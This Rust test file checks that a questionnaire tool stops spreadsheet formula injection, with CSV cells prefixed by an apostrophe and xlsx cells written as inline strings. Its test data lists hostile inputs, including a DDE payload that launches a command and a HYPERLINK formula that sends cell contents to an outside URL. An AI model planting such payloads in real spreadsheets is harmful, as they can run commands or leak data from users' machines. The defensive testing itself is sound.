//! Formula injection: an answer that a spreadsheet would run as a formula stays text in every
//! export. CSV export prefixes it with an apostrophe; xlsx fill-back writes it as an inline
//! string, which Excel never evaluates, and never as a formula (`<f>`).

use calamine::{open_workbook_from_rs, Data, Reader, Xlsx};
use std::io::{Cursor, Read};
use trustfill_core::export::{csv::to_csv, xlsx::fill_xlsx};
use trustfill_core::{import_questionnaire, ReviewAction, ReviewSession};

/// Answers that a spreadsheet would evaluate: the classic DDE payload, each character that
/// starts a formula, and the tab and carriage return that some spreadsheets skip before one.
const HOSTILE: &[&str] = &[
    "=cmd|' /C calc'!A0",
    "+1",
    "-1+1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "=HYPERLINK(\"http://example.com/?\"&A1,\"Click\")",
];

/// A workbook with one question per hostile answer, and empty answer and comment columns.
fn workbook() -> Vec<u8> {
    let mut book = rust_xlsxwriter::Workbook::new();
    let sheet = book.add_worksheet();
    for (col, text) in ["ID", "Question", "Answer", "Comments"].into_iter().enumerate() {
        sheet.write_string(0, col as u16, text).unwrap();
    }
    for row in 1..=HOSTILE.len() as u32 {
        sheet.write_string(row, 0, format!("Q-{row}")).unwrap();
        sheet.write_string(row, 1, format!("Do you review access list {row} every quarter?")).unwrap();
    }
    book.save_to_buffer().unwrap()
}

/// The workbook imported, with every question answered by hand: the hostile text is both the
/// answer and the detail.
fn answered(bytes: &[u8]) -> ReviewSession {
    let questionnaire = import_questionnaire(bytes, "hostile.xlsx").unwrap();
    assert_eq!(questionnaire.questions.len(), HOSTILE.len(), "{:#?}", questionnaire.diagnostics);
    let mut session = ReviewSession::new(questionnaire, vec![Vec::new(); HOSTILE.len()], &[], "test");
    for (question, text) in HOSTILE.iter().enumerate() {
        session.apply(ReviewAction::Edit { question, answer: (*text).to_owned(), detail: (*text).to_owned() });
    }
    session
}

#[test]
fn csv_export_prefixes_every_cell_that_would_start_a_formula() {
    let session = answered(&workbook());
    let csv = to_csv(&session);
    let mut reader = csv::ReaderBuilder::new().from_reader(csv.as_slice());
    let header = reader.headers().unwrap().clone();
    let column = |name: &str| header.iter().position(|h| h == name).unwrap();
    let (answer, detail) = (column("Answer"), column("Detail"));
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), HOSTILE.len());
    for (row, text) in rows.iter().zip(HOSTILE) {
        for cell in [&row[answer], &row[detail]] {
            assert!(cell.starts_with('\''), "{cell:?} would run as a formula");
            assert_eq!(&cell[1..], *text, "only the apostrophe is added");
        }
    }
}

#[test]
fn xlsx_fill_back_writes_hostile_text_as_inline_strings_never_formulas() {
    let original = workbook();
    let session = answered(&original);
    let filled = fill_xlsx(&original, &session).unwrap();

    let mut archive = zip::ZipArchive::new(Cursor::new(&filled)).unwrap();
    let mut sheet = String::new();
    archive.by_name("xl/worksheets/sheet1.xml").unwrap().read_to_string(&mut sheet).unwrap();
    assert!(!sheet.contains("<f>") && !sheet.contains("<f "), "a formula was written: {sheet}");
    for row in 2..=HOSTILE.len() + 1 {
        for col in ["C", "D"] {
            let cell = format!(r#"<c r="{col}{row}" t="inlineStr"><is><t xml:space="preserve">"#);
            assert!(sheet.contains(&cell), "{col}{row} is not an inline string: {sheet}");
        }
    }

    let mut book: Xlsx<_> = open_workbook_from_rs(Cursor::new(filled)).unwrap();
    let values = book.worksheet_range("Sheet1").unwrap();
    let formulas = book.worksheet_formula("Sheet1").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "calamine found a formula");
    for (i, text) in HOSTILE.iter().enumerate() {
        let row = i as u32 + 1;
        for col in [2, 3] {
            let value = values.get_value((row, col));
            // Import reads back what it would show: the text, trimmed of its outer space.
            let shown = match value {
                Some(Data::String(s)) => s.trim().to_owned(),
                other => panic!("row {row} column {col} is not text: {other:?}"),
            };
            assert_eq!(shown, text.trim(), "row {row} column {col}");
        }
    }
}
